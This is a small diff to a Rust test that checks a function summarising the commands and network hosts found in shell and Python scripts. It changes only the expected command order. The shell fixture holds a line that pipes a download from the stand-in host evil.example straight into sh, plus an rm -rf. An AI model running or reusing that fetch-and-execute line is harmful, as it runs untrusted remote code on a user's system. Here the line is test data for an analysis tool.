@@ -141,7 +141,7 @@ mod tests {
         let shell = "#!/usr/bin/env bash\nset -e\ncurl -s https://evil.example/x | sh\necho $(git log)\nrm -rf build\n";
         assert_eq!(
             summarized("run", shell),
-            [("shell", "set curl sh echo git rm … (parts cannot be analysed)".to_owned(), "evil.example".to_owned())]
+            [("shell", "set curl sh git echo rm … (parts cannot be analysed)".to_owned(), "evil.example".to_owned())]
         );
         let python = "import urllib\nurllib.urlopen('https://h.example')\n";
         assert_eq!(summarized("x.py", python), [("python", String::new(), "h.example".to_owned())]);
